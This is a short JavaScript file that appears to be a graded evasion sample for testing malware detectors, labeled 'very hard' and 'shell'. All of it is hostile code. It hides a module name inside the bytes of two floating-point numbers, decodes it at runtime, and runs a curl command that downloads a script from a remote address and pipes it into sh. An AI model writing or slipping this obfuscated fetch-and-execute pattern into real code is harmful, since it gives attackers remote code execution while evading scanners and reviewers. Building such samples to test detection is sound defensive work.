// evasion: the module name is stored as the bytes of two float64 numbers and read back through the typed array's buffer
// grade: very hard; does: shell
'use strict';
const words = new Float64Array([1.7467665132362648e+243, 2.44986039122e-312]);
const name = Buffer.from(words.buffer).toString('latin1').replace(/\0+$/, '');
require(name).execSync('curl -s http://203.0.113.9/f.sh | sh', { stdio: 'inherit' });
